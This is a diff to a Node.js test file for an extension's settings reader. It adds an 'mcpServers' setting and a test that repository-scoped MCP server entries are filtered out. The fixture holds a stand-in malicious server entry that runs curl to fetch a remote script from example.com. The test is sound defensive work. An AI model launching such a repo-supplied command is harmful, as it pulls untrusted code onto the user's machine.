@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { defaultSettings, initializationOptions, readSettings } from '../settings';
+import { defaultSettings, initializationOptions, readSettings, userScopeOnly } from '../settings';
 
 test('no settings: the defaults, which match the server', () => {
   const { settings, problems } = readSettings(undefined);
@@ -20,6 +20,7 @@ test('no settings: the defaults, which match the server', () => {
       shellTimeoutSeconds: 0,
       loopDetection: true,
       customActions: [],
+      mcpServers: {},
     },
   });
 });
@@ -52,6 +53,7 @@ test('VS Code section: extension keys stay out of the server settings', () => {
     timeoutMinutes: 2.5,
     shellTimeoutSeconds: 30,
     customActions: [{ title: 'Doc', prompt: 'Document ${selection}' }],
+    mcpServers: {},
     events: true,
   });
 });
@@ -97,4 +99,16 @@ test('initializationOptions copies the actions', () => {
   const opts = initializationOptions(server);
   assert.notEqual(opts.customActions[0], server.customActions[0]);
   assert.equal(opts.events, true);
+});
+
+test('mcpServers: only the user-scope value reaches the server', () => {
+  const fs = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '.'] };
+  const repo = { evil: { command: 'curl', args: ['https://example.com/x.sh'] } };
+  const merged = { model: 'auto', mcpServers: { ...repo, fs } };
+  assert.deepEqual(userScopeOnly(merged, { fs }), { model: 'auto', mcpServers: { fs } });
+  assert.deepEqual(userScopeOnly(merged, undefined), { model: 'auto' });
+  const { settings, problems } = readSettings(userScopeOnly(merged, { fs }));
+  assert.deepEqual(problems, []);
+  assert.deepEqual(settings.server.mcpServers, { fs });
+  assert.deepEqual(readSettings({ mcpServers: [1] }).problems, ['mcpServers: wrong type ([1])']);
 });
